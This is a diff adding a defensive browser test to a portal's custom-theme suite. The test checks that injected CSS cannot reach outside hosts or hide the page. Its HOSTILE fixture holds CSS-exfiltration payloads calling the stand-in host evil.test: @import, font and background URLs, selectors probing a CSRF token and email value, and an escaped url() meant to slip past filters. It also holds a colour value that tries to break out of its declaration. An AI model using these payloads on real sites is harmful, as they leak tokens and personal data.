@@ -105,3 +105,36 @@ def test_the_documented_sample_restyles_the_running_portal(
         return now != before
 
     eventually(restyled, 20)
+
+
+HOSTILE = """@import url(http://evil.test/a.css);
+@font-face { font-family: x; src: url(http://evil.test/f) }
+body { background: url(http://evil.test/b); font-family: x }
+[name=csrf_token][value^="I"] { background: u\\72l(http://evil.test/c) }
+[value*="@tests.test"] { background-image: image-set("http://evil.test/d" 1x) }
+h1 { letter-spacing: 7px }
+"""
+
+
+@pytest.mark.case("B1")
+@pytest.mark.case("B2")
+@pytest.mark.case("B6")
+def test_a_hostile_look_reaches_nothing_and_hides_nothing(
+    stack: Stack, spare_realm: str, person: Any, open_page: Any, eventually: Any
+) -> None:
+    someone = person(spare_realm)
+    colours = {f"{PREFIX}portal.primaryColor600": "red;} body { display: none", "portal.accentColor": "var(--x)"}
+    dress(stack, spare_realm, **{f"{PREFIX}portal.css": HOSTILE}, **colours)
+    page = open_page(f"/{spare_realm}/profile", someone, color_scheme="light")
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+
+    def worn() -> bool:
+        page.reload()
+        return style(page, "h1", "letterSpacing") == "7px"
+
+    eventually(worn, 20)
+    page.wait_for_load_state("networkidle")
+    assert {url.split("/")[2] for url in asked if url.startswith("http")} == {stack.portal_url.split("/")[2]}
+    expect(page.get_by_role("button", name="Save profile")).to_be_visible()
+    assert colour(page, ".btn.primary") == [42, 86, 198], "a colour that is none leaves the house's"
